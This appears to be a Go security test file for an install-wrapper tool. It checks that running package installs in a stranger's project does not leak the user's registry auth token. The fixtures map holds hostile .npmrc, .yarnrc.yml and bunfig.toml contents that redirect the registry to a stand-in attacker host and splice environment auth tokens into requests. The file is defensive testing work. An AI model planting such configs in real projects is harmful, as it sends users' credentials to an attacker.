//go:build linux

package main

import (
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/sandglass-dev/sandglass/internal/testkit/recorder"
)

// hostileFolders are projects by a stranger. ATTACKER is their registry, KEY the user's as config keys have it.
var hostileFolders = map[string]map[string]string{
	"A01_header": {
		".npmrc":      "registry=ATTACKER\n//ATTACKERHOST/:_authToken=${npm_config_KEY:_authToken}${NPM_CONFIG_KEY:_authToken}\nalways-auth=true\n",
		".yarnrc.yml": "npmRegistryServer: \"ATTACKER\"\nunsafeHttpWhitelist: [\"127.0.0.1\"]\nnpmAlwaysAuth: true\nnpmAuthToken: \"${YARN_NPM_AUTH_TOKEN-}x\"\n",
	},
	"A02_path": {
		".npmrc": "registry=ATTACKER${npm_config_KEY:_authToken}/\n@acme:registry=ATTACKER${npm_config_KEY:_authToken}/\n",
	},
	"A06_userconfig": {
		".npmrc": "registry=ATTACKER\nuserconfig=./evilrc\nglobalconfig=${NPM_CONFIG_USERCONFIG}\ncafile=${NPM_CONFIG_USERCONFIG}\n//ATTACKERHOST/:_authToken=${NPM_CONFIG_USERCONFIG}\n",
		"evilrc": "//ATTACKERHOST/:_authToken=${npm_config_KEY:_authToken}\n",
	},
	"A11_registry": { // the credentials that are not bound to a host go to whatever the project names
		".npmrc":      "registry=ATTACKER\n",
		".yarnrc.yml": "npmRegistryServer: \"ATTACKER\"\nunsafeHttpWhitelist: [\"127.0.0.1\"]\nnpmAlwaysAuth: true\n",
		"bunfig.toml": "[install.registry]\nurl = \"ATTACKER\"\ntoken = \"$NPM_CONFIG_TOKEN$BUN_CONFIG_TOKEN\"\n",
	},
}

// TestA_ExecInHostileFolders installs by exec in folders that try to get at what exec hands over: nothing of it
// comes to the stranger's registry.
func TestA_ExecInHostileFolders(t *testing.T) {
	for id, files := range hostileFolders {
		for name, argv := range installs {
			t.Run(id+"/"+name, func(t *testing.T) {
				t.Parallel()
				d := newDeveloper(t, name, asScript) // of unknown version: it gets the most
				attacker := recorder.Start(t)
				d.hostile(attacker, files)
				out, _ := d.in(append([]string{"exec", "--"}, argv...)...)
				if leaks := attacker.Canary(d.session); len(leaks) > 0 {
					t.Errorf("%s %s has the session\n%s", leaks[0].Method, leaks[0].Path, out)
				}
			})
		}
	}
}

// hostile writes a stranger's files into the work folder.
func (d *developer) hostile(attacker *recorder.Recorder, files map[string]string) {
	d.t.Helper()
	fill := strings.NewReplacer("ATTACKERHOST", attacker.Host(), "ATTACKER", attacker.URL, "KEY", "//"+d.server.Host()+"/")
	for file, text := range files {
		d.home.Write(d.t, "work/"+file, fill.Replace(text), 0o644)
	}
	d.home.Write(d.t, "work/yarn.lock", "", 0o644)
}

// TestA01_KeysOfTheEnvironmentLeak is why exec puts no npm_config_//host/:_authToken into an environment: everybody knows the name.
func TestA01_KeysOfTheEnvironmentLeak(t *testing.T) {
	for _, name := range []string{"npm10", "npm11", "npm12"} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			d := newDeveloper(t, name, asLink)
			attacker := recorder.Start(t)
			d.hostile(attacker, hostileFolders["A01_header"])
			cmd := exec.CommandContext(t.Context(), filepath.Join(d.home.Bin, "npm"), "install")
			cmd.Dir, cmd.Env = d.home.Work(), append(d.env, "npm_config_//"+d.server.Host()+"/:_authToken="+d.session)
			out, _ := cmd.CombinedOutput()
			if len(attacker.Canary(d.session)) == 0 {
				t.Errorf("it does not leak: exec may use it again\n%s", out)
			}
		})
	}
}
